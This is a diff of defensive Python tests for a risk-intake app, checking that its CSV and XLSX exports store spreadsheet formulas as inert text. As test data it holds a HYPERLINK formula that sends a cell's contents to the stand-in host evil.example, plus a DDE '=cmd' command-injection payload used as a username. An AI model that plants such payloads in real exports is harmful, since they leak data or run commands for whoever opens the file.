@@ -13,6 +13,7 @@ from riskgate.core import tabular
 from riskgate.core.models import AuditEvent
 from riskgate.intake import services
 from riskgate.intake.models import RiskInformation
+from tests.core.exporting import exported
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
 
@@ -49,11 +50,9 @@ def test_information_exports_hold_formulas_as_text_and_survive_control_character
     _item(world, FORMULA)
     _item(world, "控制\x0b字符\x01标题")  # (PostgreSQL stores no NUL at all)
     client = world.client_for("bureau_officer")
-    text = b"".join(client.get("/intake/export.csv").streaming_content).decode("utf-8-sig")
+    text = exported(client, "intake.information").decode("utf-8-sig")
     assert "'" + FORMULA.replace('"', '""') in text and "控制字符标题" in text
-    response = client.get("/intake/export.xlsx")
-    assert response.status_code == 200
-    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
+    sheet = load_workbook(io.BytesIO(exported(client, "intake.information", "xlsx"))).worksheets[0]
     cells = [c for row in sheet.iter_rows() for c in row]
     assert not [c for c in cells if c.data_type == "f"], "no formula cell"
     values = {c.value for c in cells}
@@ -63,7 +62,7 @@ def test_information_exports_hold_formulas_as_text_and_survive_control_character
 def test_the_audit_export_holds_a_hostile_user_name_as_text(world):
     Client().post("/accounts/login/", {"username": "=cmd|' /C calc'!A0", "password": "x"}, REMOTE_ADDR="10.9.9.9")
     assert AuditEvent.objects.filter(action="login.failed", object_id__startswith="=cmd").exists()
-    text = b"".join(world.client_for("auditor").get("/audit/export.csv").streaming_content).decode("utf-8-sig")
+    text = exported(world.client_for("auditor"), "core.audit").decode("utf-8-sig")
     assert ",'=cmd|" in text and ",=cmd|" not in text
 
 
